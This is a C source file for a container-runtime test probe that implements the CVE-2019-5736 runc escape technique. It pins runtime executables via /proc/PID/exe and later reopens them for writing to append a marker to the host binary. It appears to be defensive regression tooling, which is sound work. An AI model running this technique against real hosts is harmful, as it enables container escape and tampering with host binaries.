/* berth-probe: `exe-attack SECONDS [append]`, the CVE-2019-5736 attack from inside a
 * container, used only against a throw-away copy of the runtime binary.
 *
 * For SECONDS it watches /proc for processes that are not running this probe (the runtime's
 * helper during `exec`, or a runtime binary re-executed through /proc/self/exe). For each,
 * it pins the executable with an O_PATH descriptor on /proc/PID/exe and tries to open it for
 * writing at once (ETXTBSY while it runs). At the end, once those processes are gone, it
 * re-opens every pinned file through /proc/self/fd/N for writing, and with `append` appends
 * a marker: a runtime that leaves its host binary reachable this way gets modified, which the
 * test sees on the host. Reports one entry per process and binary seen; a process whose
 * executable was not accessible (a non-dumpable runtime helper) is retried on every scan.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "probe.h"

#define kMaxSeen 256

typedef struct {
  pid_t pid;
  int path_fd;        /* O_PATH on the executable, or -1 */
  int path_errno;     /* why the O_PATH open failed */
  int open_wr_errno;  /* direct O_WRONLY open while the process lived */
  char exe[PATH_MAX]; /* readlink of /proc/PID/exe, if readable */
} Seen;

static double Now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* The latest entry for `pid`, or NULL. */
static Seen* Latest(Seen* seen, int n, pid_t pid) {
  for (int i = n - 1; i >= 0; i--) {
    if (seen[i].pid == pid) return &seen[i];
  }
  return NULL;
}

/* Tries to pin /proc/PID/exe into `s` (again, if an earlier try failed). */
static void Pin(Seen* s, const char* path) {
  s->path_fd = open(path, O_PATH | O_CLOEXEC);
  s->path_errno = s->path_fd < 0 ? errno : 0;
  int wfd = open(path, O_WRONLY | O_CLOEXEC);
  s->open_wr_errno = wfd < 0 ? errno : 0;
  if (wfd >= 0) close(wfd);
  ssize_t l = readlink(path, s->exe, sizeof s->exe - 1);
  s->exe[l > 0 ? l : 0] = '\0';
}

int CmdExeAttack(int argc, char** argv) {
  if (argc < 1) return 2;
  double until = Now() + atof(argv[0]);
  int append = argc > 1 && strcmp(argv[1], "append") == 0;
  struct stat self;
  if (stat("/proc/self/exe", &self) != 0) return EmitFailure("exe-attack", NULL, errno);
  static Seen seen[kMaxSeen];
  int n = 0;
  pid_t me = getpid();

  /* Tell the test we are watching before it starts the runtime. */
  Json j;
  JsonInit(&j);
  JsonObjBegin(&j, NULL);
  JsonStr(&j, "cmd", "exe-attack");
  JsonBool(&j, "ready", 1);
  JsonObjEnd(&j);
  JsonEmit(&j);

  while (Now() < until && n < kMaxSeen) {
    DIR* d = opendir("/proc");
    if (!d) break;
    for (struct dirent* e; (e = readdir(d)) && n < kMaxSeen;) {
      pid_t pid = (pid_t)atoi(e->d_name);
      if (pid <= 0 || pid == me) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      struct stat st;
      int stat_ok = stat(path, &st) == 0;
      if (stat_ok && st.st_dev == self.st_dev && st.st_ino == self.st_ino) continue;
      Seen* s = Latest(seen, n, pid);
      if (s && s->path_fd < 0) {
        /* Not accessible last time (a runtime helper is non-dumpable while it sets up):
         * try again, it may have exec'd something else since. */
        Pin(s, path);
        continue;
      }
      if (s) {
        /* Pinned already; a new entry only if the process exec'd another binary. */
        struct stat pinned;
        if (!stat_ok || fstat(s->path_fd, &pinned) != 0 ||
            (pinned.st_dev == st.st_dev && pinned.st_ino == st.st_ino)) {
          continue;
        }
      }
      s = &seen[n++];
      s->pid = pid;
      Pin(s, path);
    }
    closedir(d);
  }

  JsonObjBegin(&j, NULL);
  JsonStr(&j, "cmd", "exe-attack");
  JsonBool(&j, "ok", 1);
  JsonArrBegin(&j, "seen");
  for (int i = 0; i < n; i++) {
    Seen* s = &seen[i];
    JsonObjBegin(&j, NULL);
    JsonInt(&j, "pid", s->pid);
    JsonStr(&j, "exe", s->exe);
    JsonErrno(&j, "path_errno", s->path_errno);
    JsonErrno(&j, "open_wr_errno", s->open_wr_errno);
    if (s->path_fd >= 0) {
      /* Wait (bounded) for the process to go away: its binary is busy while it runs. */
      for (int k = 0; k < 50 && kill(s->pid, 0) == 0; k++) usleep(100000);
      char fdpath[64];
      snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", s->path_fd);
      int wfd = open(fdpath, O_WRONLY | O_APPEND | O_CLOEXEC);
      JsonErrno(&j, "reopen_errno", wfd < 0 ? errno : 0);
      if (wfd >= 0) {
        int werr = 0;
        if (append) {
          static const char kMarker[] = "\nBERTH-PROBE-EXE-ATTACK\n";
          if (write(wfd, kMarker, sizeof kMarker - 1) < 0) werr = errno;
          JsonBool(&j, "written", werr == 0);
        }
        JsonErrno(&j, "write_errno", werr);
        close(wfd);
      }
      close(s->path_fd);
    }
    JsonObjEnd(&j);
  }
  JsonArrEnd(&j);
  JsonObjEnd(&j);
  JsonEmit(&j);
  JsonFree(&j);
  return 0;
}
